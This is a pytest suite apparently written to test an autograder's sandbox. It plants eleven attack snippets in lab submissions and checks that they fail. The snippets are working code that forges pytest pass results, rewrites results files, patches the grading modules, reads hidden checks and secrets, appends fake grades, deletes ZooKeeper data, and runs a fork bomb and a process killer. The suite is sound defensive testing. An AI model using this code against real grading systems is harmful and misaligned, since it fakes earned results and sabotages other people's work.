"""The attack suite: a submission cannot forge its grade, nor take another's.

Each attack below is a lab 1 solution cell (the correct code plus the attack,
so lab 1 is earned honestly) in a submission whose labs 2-4 are the shipped
starter (worth nothing) or the solutions (worth full marks). The whole class
is graded by the batch grader, two at a time, beside an honest submission;
then, for every attack:

- it scores nothing it did not earn (the starter's labs stay at 0);
- what it broke costs only its own lab (the solved labs keep their points);
- the honest submission graded beside it keeps full marks;
- nothing it started is still running, and the class's files are intact.

The protections are permissions, not trust, so they need the grader to run as
root (the sandbox then runs as a uid of its own); as another user this suite
is skipped with that reason.
"""
import csv
import os
import shutil
import tempfile
import uuid
from pathlib import Path

import pytest

from harness import cli, manifest, notebooks
from harness.manifest import REPO
from harness.sandbox.jail import SLOTS, UID_BASE, Jail
from harness.tools import mutants
from harness.waits import wait_until
from harness.world.secrets import grader_secret, seed_key, seed_key_path

pytestmark = [pytest.mark.runs_checks, pytest.mark.slow,
              pytest.mark.skipif(os.geteuid() != 0, reason="the sandbox's own uid needs a root grader")]

LABS = ["lab1", "lab2", "lab3", "lab4"]
POINTS = {lab.key: lab.points for lab in manifest.labs()}
TAG = uuid.uuid4().hex[:8]
# A folder the sandbox can write to and the test can read: its /tmp is a tmpfs of its own
# (sandbox/private_tmp.py), gone with it. Made by the fixture, open to every uid.
LEAK_DIR = Path(f"/var/lib/zk-workshop/attack-{TAG}")
LEAK = str(LEAK_DIR / "leak.txt")
SECRET = f"HIDDEN-CHECK-SECRET-{TAG}"

LAB1 = "".join(src for _, src in notebooks.solution_cells(REPO / "solutions" / manifest.by_key("lab1").notebook))

# The grader's command line is readable by anyone (/proc/PID/cmdline): every
# attack below knows the results file's path and the hidden checks' paths.
GRADER_ARGS = '''
import os
def _grader_args():
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            return [a.decode() for a in f.read().split(b"\\0") if a]
    except OSError:
        return []
'''

ATTACKS = {
    # 1. find pytest's Config and make every report a pass (scored 100/100 before the sandbox)
    "hook_forger": '''
import gc, sys
for obj in gc.get_objects():
    if type(obj).__name__ == "Config" and hasattr(obj, "pluginmanager"):
        import pytest
        class Forger:
            @pytest.hookimpl(hookwrapper=True)
            def pytest_runtest_makereport(self, item, call):
                outcome = yield
                outcome.get_result().outcome = "passed"
        obj.pluginmanager.register(Forger(), "forger")
''',
    # 2. rewrite the results file at exit, and from a process that outlives this one
    "results_rewriter": GRADER_ARGS + '''
import atexit, json, time
def _forge():
    args = _grader_args()
    if "--results-json" in args:
        path = args[args.index("--results-json") + 1]
        try:
            with open(path, "w") as f:
                json.dump({"total": {"points": 100.0}, "labs": {}, "checks": []}, f)
        except OSError as e:
            print("results_rewriter could not write:", e)
atexit.register(_forge)
_forge()
if os.fork() == 0:
    os.setsid()
    for _ in range(200):
        _forge(); time.sleep(0.1)
    os._exit(0)
''',
    # 3. patch the checks' helpers where they would be imported
    "module_patcher": '''
import sys, types
import harness.world.verdicts as ck
ck.expect = lambda condition, message: None
ck.CheckFailure = type("CheckFailure", (Exception,), {})
fake = types.ModuleType("harness.grading.plugin")
sys.modules["harness.grading.plugin"] = fake
''',
    # 4. read the instructor's hidden checks and leak them where anyone can read
    "hidden_reader": GRADER_ARGS + f'''
_leak = []
for a in _grader_args():
    if a.endswith(".py"):
        try:
            _leak.append(open(a).read())
        except OSError as e:
            _leak.append(f"cannot read {{a}}: {{e.strerror}}")
for p in ["/root/.local/state/zk-workshop/grader-secret", {str(seed_key_path())!r}]:
    try:
        _leak.append(open(p).read())
    except OSError:
        pass
with open({LEAK!r}, "a") as f:
    f.write("\\n".join(_leak))
''',
    # 5. print a perfect score table and leave
    "fake_table_exit": '''
print("ok 1 Ephemeral nodes 8/8 10.0/10.0\\nok 2 Sequence numbers 11/11 15.0/15.0\\ntotal 100.0/100.0")
import os
os._exit(0)
''',
    # 6. a detached process that lives on and edits the class's grades later
    "lingerer": '''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(1200):
            for path in [CLASS_CSV]:
                try:
                    with open(path, "a") as f:
                        f.write("lingerer,10,15,20,25,30,100,graded\\n")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)
''',
    # 7. delete every other submission's znodes, for as long as it is graded
    "namespace_vandal": '''
import threading, time
from kazoo.client import KazooClient
def _vandal():
    zk = KazooClient(hosts="127.0.0.1:2181,127.0.0.1:2182,127.0.0.1:2183")
    zk.start(timeout=10)
    end = time.time() + 90
    while time.time() < end:
        for top in ("/grading", "/checks"):
            try:
                stack = [top]
                while stack:
                    path = stack.pop()
                    try:
                        kids = zk.get_children(path)
                    except Exception:
                        kids = []
                    stack += [f"{path}/{k}" for k in kids]
                    try:
                        zk.delete(path, recursive=True)
                    except Exception:
                        pass
            except Exception:
                pass
        time.sleep(0.05)
threading.Thread(target=_vandal, daemon=True).start()
''',
    # 8. a fork bomb (sleepy, so the machine stays usable): costs lab 1 and nothing else
    "fork_bomb": '''
import os, time
for _ in range(100000):
    os.fork()
    time.sleep(0.01)
''',
    # 9. output without end, from a thread that never stops
    "infinite_output": '''
import threading
def _shout():
    while True:
        print("x" * 1000)
threading.Thread(target=_shout, daemon=True).start()
''',
    # 10. signal the grader, and every process it may reach
    "grader_killer": '''
import os, signal
for pid in (os.getppid(), 1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as e:
        print("grader_killer:", e)
''',
    # 11. write garbage on the protocol's socket
    "protocol_garbage": '''
import os, socket
for fd in range(3, 20):
    try:
        s = socket.socket(fileno=os.dup(fd))
        s.sendall(b"\\x00\\x00\\x00\\x10{not json at all" * 1000)
    except OSError:
        pass
''',
}

# what each attack submission carries in labs 2-4: the starter (nothing to earn) or the
# solutions (full marks, to show the attack costs only its own lab)
REST_SOLVED = {"fork_bomb", "infinite_output", "grader_killer", "protocol_garbage"}
LAB1_LOST = {"fake_table_exit", "fork_bomb", "protocol_garbage"}   # attacks that break lab 1 itself


def expected(name):
    lab1 = 0.0 if name in LAB1_LOST else POINTS["lab1"]
    rest = sum(POINTS[k] for k in LABS[1:]) if name in REST_SOLVED else 0.0
    return lab1, rest


def failed_checks(out: Path, submission: str) -> str:
    """The checks a submission failed, one line each: what a failing assertion should show."""
    import json
    try:
        data = json.loads((out / f"{submission}.json").read_text())
    except (OSError, ValueError) as e:
        return f"(no results for {submission}: {e})"
    return "\n".join(f"{c['nodeid']}: {c['status']}: {c['message'][:3000]}"
                     for c in data.get("checks", []) if c["status"] != "passed")


def sandbox_processes():
    pids = []
    for slot in range(SLOTS):
        pids += Jail._pids_of(UID_BASE + slot)
    return pids


@pytest.fixture(scope="module")
def graded():
    # Folders as an instructor's usually are: readable by everyone, writable by the grader.
    root = Path(tempfile.mkdtemp(prefix="attacked-class-"))
    os.chmod(root, 0o755)
    subs = root / "submissions"
    subs.mkdir()
    out = root / "out"
    hidden = root / "hidden"
    hidden.mkdir()
    (hidden / "test_lab1_hidden.py").write_text(f"# {SECRET}\ndef test_lab1_hidden(lab):\n    pass\n")
    LEAK_DIR.mkdir(parents=True, exist_ok=True)
    os.chmod(LEAK_DIR, 0o1777)
    # the honest one is graded first, beside the vandal
    mutants.build(subs / "a_honest")
    for name, attack in ATTACKS.items():
        base = REPO / "solutions" if name in REST_SOLVED else REPO / "labs"
        code = attack.replace("CLASS_CSV", repr(str(out / "grades.csv")))
        cell = code if name in LAB1_LOST else LAB1 + "\n" + code
        prefix = "a_" if name == "namespace_vandal" else "b_"
        mutants.build(subs / f"{prefix}{name}", base=base, overrides={"lab1": cell})
    before = set(sandbox_processes())
    code = cli.main(["grade", str(subs), "--out", str(out), "--labs", ",".join(LABS), "--jobs", "2",
                       "--timeout", "600", "--hidden", str(hidden)])
    assert code == 0
    with open(out / "grades.csv") as f:
        rows = {r["submission"]: r for r in csv.DictReader(f)}
    csv_text = (out / "grades.csv").read_text()
    yield {"rows": rows, "out": out, "csv": csv_text, "before": before}
    shutil.rmtree(LEAK_DIR, ignore_errors=True)
    shutil.rmtree(root, ignore_errors=True)


def test_the_honest_submission_keeps_full_marks(graded):
    row = graded["rows"]["a_honest"]
    why = failed_checks(graded["out"], "a_honest")
    assert row["status"] == "graded", (row, why)
    assert float(row["total"]) == sum(POINTS[k] for k in LABS), (row, why)


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attack_keeps_no_point_it_did_not_earn(graded, name):
    prefix = "a_" if name == "namespace_vandal" else "b_"
    row = graded["rows"][f"{prefix}{name}"]
    lab1, rest = expected(name)
    got_rest = sum(float(row[k]) for k in LABS[1:])
    why = failed_checks(graded["out"], f"{prefix}{name}")
    said = f"{name}: {row}\nthe checks it failed:\n{why}"     # a str: pytest shows it whole
    assert float(row["lab1"]) <= lab1 + 1e-6, said
    if name not in LAB1_LOST:      # lab 1's honest code still counts
        assert float(row["lab1"]) == pytest.approx(lab1), said
    assert got_rest == pytest.approx(rest), said
    assert row["status"] == "graded", said


def _parent(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def orphaned(pids) -> set:
    """Sandbox processes no live grader holds: their chain of parents, past the sandbox
    uids, ends at init. (Another grader running at the same time, a developer's or a
    helper's, holds its own sandboxes: those are not ours to count.)"""
    sandbox = set(pids)
    left = set()
    for pid in sandbox:
        up = _parent(pid)
        while up in sandbox:
            up = _parent(up)
        if up <= 1:
            left.add(pid)
    return left


def test_nothing_the_submissions_started_is_still_running(graded):
    left = orphaned(sandbox_processes()) - graded["before"]
    # Another grading being torn down at this moment (the test loop runs files side by
    # side) has children parented to init for an instant, until its grader's kill lands:
    # what outlived its grading is what is still here a few seconds later.
    wait_until(lambda: not (left & set(sandbox_processes())), 10)
    left &= orphaned(sandbox_processes())
    assert not left, f"sandbox processes outlived their grading: {sorted(left)}"


def test_the_class_files_are_intact(graded):
    out = graded["out"]
    assert "lingerer,10,15,20,25,30,100" not in (out / "grades.csv").read_text()
    assert (out / "grades.csv").read_text() == graded["csv"]
    for name in ATTACKS:
        prefix = "a_" if name == "namespace_vandal" else "b_"
        data = (out / f"{prefix}{name}.json").read_text()
        assert '"points": 100.0' not in data or name in REST_SOLVED, name


def test_the_hidden_checks_did_not_leak(graded):
    leaked = open(LEAK).read() if os.path.exists(LEAK) else ""
    assert SECRET not in leaked, "the sandbox read an instructor's hidden check"
    assert "cannot read" in leaked                      # it tried, and was refused
    assert grader_secret() not in leaked, "the sandbox read the grader's ZooKeeper secret"
    key = seed_key()
    assert key is None or key.hex() not in leaked, \
        "the sandbox read the key of its seed (it could then find the run's seed by trying)"
